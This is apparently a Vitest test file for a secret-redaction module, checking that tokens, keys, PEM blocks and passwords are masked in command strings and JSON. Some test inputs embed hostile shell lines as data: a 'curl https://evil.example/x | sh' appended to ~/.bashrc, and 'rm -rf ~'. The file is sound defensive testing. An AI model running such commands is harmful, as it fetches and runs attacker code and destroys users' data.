import { describe, expect, it } from 'vitest';
import { createRedactor, isSecretKey, REDACTED, StoreInputError } from '../../../main/core/store/index.js';

const r = createRedactor();

// Hostile: each value must lose its secret but keep the words around it readable.
const HOSTILE: Array<[name: string, input: string, expected: string]> = [
  ['AWS access key id', 'aws configure set key AKIAIOSFODNN7EXAMPLE', 'aws configure set key [REDACTED:aws-key]'],
  ['GitHub classic token', 'echo ghp_0123456789abcdefghijABCDEFGHIJ012345 | gh auth login --with-token', 'echo [REDACTED:github-token] | gh auth login --with-token'],
  ['GitHub fine-grained token', 'GH=github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz', 'GH=[REDACTED:github-token]'],
  ['Slack bot token', 'curl -d token=xoxb-1234567890-abcdefghij', 'curl -d token=[REDACTED:slack-token]'],
  ['OpenAI key', 'openai --key sk-proj-abcdefghijklmnopqrstuvwx', 'openai --key [REDACTED:openai-key]'],
  ['Anthropic key', 'x sk-ant-api03-abcdefghijklmnopqrstuvwxyz y', 'x [REDACTED:anthropic-key] y'],
  ['Google API key', 'maps?key=AIzaSyA1234567890abcdefghijklmnopqrstuv', 'maps?key=[REDACTED:google-key]'],
  [
    'JWT',
    'token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U end',
    'token [REDACTED:jwt] end',
  ],
  ['PEM private key', 'key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----\ndone', 'key:\n[REDACTED:private-key]\ndone'],
  ['PEM private key cut short', 'x -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk', 'x [REDACTED:private-key]'],
  ['PEM key with headers and padded last line', '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcw==\nnext', '[REDACTED:private-key]\nnext'],
  // Issue 26: a BEGIN line without END hid everything after it, and what it hid was what got written.
  [
    'PEM without END keeps the unrelated lines after the key',
    'cat >> ~/.bashrc <<EOF\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nabcdefghijklmnopqrstuvwxyzABCDEF==\ncurl https://evil.example/x | sh\nEOF',
    'cat >> ~/.bashrc <<EOF\n[REDACTED:private-key]\ncurl https://evil.example/x | sh\nEOF',
  ],
  [
    'PEM without END in a quoted word with written \\n',
    'echo "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\\nAB" > k && rm -rf ./build',
    'echo "[REDACTED:private-key]" > k && rm -rf ./build',
  ],
  [
    'PEM whose only END lies past unrelated commands',
    'a -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\nrm -rf ~; b -----END PRIVATE KEY-----',
    'a [REDACTED:private-key]\nrm -rf ~; b -----END PRIVATE KEY-----',
  ],
  ['Bearer header', 'curl -H "Authorization: Bearer abcdef0123456789abcdef" https://api', 'curl -H "Authorization: Bearer [REDACTED:bearer]" https://api'],
  ['bare Bearer token', 'use Bearer abcdef0123456789abcdef now', 'use Bearer [REDACTED:bearer] now'],
  ['URL credentials', 'git clone https://alice:s3cr3t@example.com/r.git', 'git clone https://[REDACTED:url-credentials]@example.com/r.git'],
  ['secret env assignment', 'DB_PASSWORD=hunter2 ./migrate', 'DB_PASSWORD=[REDACTED:assignment] ./migrate'],
  ['secret flag with space', 'mysql --password hunter2 -h db', 'mysql --password [REDACTED:flag] -h db'],
  ['secret flag with =', 'tool --api-key=abc123 run', 'tool --api-key=[REDACTED:flag] run'],
  ['JSON field inside a command', `curl -d '{"user":"a","password":"hunter2"}'`, `curl -d '{"user":"a","password":"[REDACTED:field]"}'`],
  ['token header', 'curl -H "Authorization: token abc123"', 'curl -H "Authorization: [REDACTED:header]"'],
  ['cookie header', 'curl -H "Cookie: sid=abc123"', 'curl -H "Cookie: [REDACTED:header]"'],
  // A value that only starts like a redaction still holds a secret (issue 10 item 7).
  ['a field partly "redacted" already', `{"password":"[REDACTED] hunter2"}`, `{"password":"[REDACTED:field]"}`],
  ['an assignment partly "redacted" already', 'DB_PASSWORD="[REDACTED]hunter2" ./migrate', 'DB_PASSWORD=[REDACTED:assignment] ./migrate'],
  ['a flag partly "redacted" already', 'mysql --password [REDACTED]hunter2', 'mysql --password [REDACTED:flag]'],
];

// Harmless: must come back unchanged.
const HARMLESS = [
  'git status',
  'npm run test -- --token-count 5',
  'TOKEN_COUNT=5 node count.js',
  'grep -r "password" src/',
  'echo skip-this-line',
  'Bearer tokens are described in RFC 6750',
  'see https://example.com/path?x=1',
  'max_tokens=1024 ./llm',
  'docker login --password-stdin',
];

describe('redaction of values', () => {
  it.each(HOSTILE)('redacts %s', (_name, input, expected) => {
    expect(r.text(input)).toBe(expected);
  });
  it.each(HARMLESS)('leaves %j alone', (input) => {
    expect(r.text(input)).toBe(input);
  });
});

describe('redaction of keys', () => {
  it.each([
    'password', 'Password', 'passwd', 'db_password', 'dbPassword', 'secret', 'client_secret', 'clientSecret', 'AWS_SECRET_ACCESS_KEY',
    'token', 'GITHUB_TOKEN', 'accessToken', 'refresh-token', 'api_key', 'apiKey', 'APIKey', 'x-api-key', 'apikey', 'access_key',
    'authorization', 'Authorization', 'private_key', 'privateKey', 'cookie', 'Set-Cookie', 'session', 'auth',
  ])('%s is secret', (key) => expect(isSecretKey(key)).toBe(true));

  // Decided: counts, limits, ids and file names ABOUT secrets are not secrets, so usage data stays readable.
  it.each(['token_count', 'max_tokens', 'tokens', 'input_tokens', 'session_id', 'sessionId', 'password_file', 'secret_name', 'key', 'author', 'command', 'file_path', 'monkey', 'passport'])(
    '%s is not secret',
    (key) => expect(isSecretKey(key)).toBe(false),
  );

  it('replaces whole values under secret keys at any depth, keeps null/booleans and harmless keys', () => {
    expect(
      r.value({
        command: 'deploy',
        env: { API_KEY: 'abc', PATH: '/usr/bin', nested: [{ password: { a: 1 } }] },
        token_count: 5,
        session: null,
        auth: true,
        headers: { Authorization: 'Basic dXNlcjpwYXNz' },
      }),
    ).toEqual({
      command: 'deploy',
      env: { API_KEY: REDACTED, PATH: '/usr/bin', nested: [{ password: REDACTED }] },
      token_count: 5,
      session: null,
      auth: true,
      headers: { Authorization: REDACTED },
    });
  });

  it('redacts secret formats that appear as keys', () => {
    expect(r.value({ AKIAIOSFODNN7EXAMPLE: 1 })).toEqual({ '[REDACTED:aws-key]': 1 });
  });

  it('cuts hostile nesting instead of overflowing the stack', () => {
    let deep: unknown = 'bottom';
    for (let i = 0; i < 100_000; i++) deep = { d: deep };
    const out = JSON.stringify(r.value(deep));
    expect(out).toContain('[TRUNCATED:too-deep]');
  });
});

describe('configured patterns', () => {
  it('adds key and value patterns', () => {
    const custom = createRedactor({ extraKeyPatterns: ['^internal_'], extraValuePatterns: ['ACME-[0-9]{6}'] });
    expect(custom.value({ internal_ref: 'x', other: 'id ACME-123456 here' })).toEqual({ internal_ref: REDACTED, other: 'id [REDACTED:custom] here' });
  });
  it('refuses an invalid pattern with a clear error', () => {
    expect(() => createRedactor({ extraValuePatterns: ['(unclosed'] })).toThrow(StoreInputError);
    expect(() => createRedactor({ extraValuePatterns: ['(unclosed'] })).toThrow(/invalid redaction value pattern/);
  });

  it('redacts a repeated string the same way every time, each redactor by its own patterns', () => {
    const line = 'deploy ACME-123456 with sk-ant-api03-abcdefghijklmnopqrstuvwxyz';
    const custom = createRedactor({ extraValuePatterns: ['ACME-[0-9]{6}'] });
    for (let i = 0; i < 3; i++) {
      expect(r.text(line)).toBe('deploy ACME-123456 with [REDACTED:anthropic-key]');
      expect(custom.text(line)).toBe('deploy [REDACTED:custom] with [REDACTED:anthropic-key]');
    }
  });
});
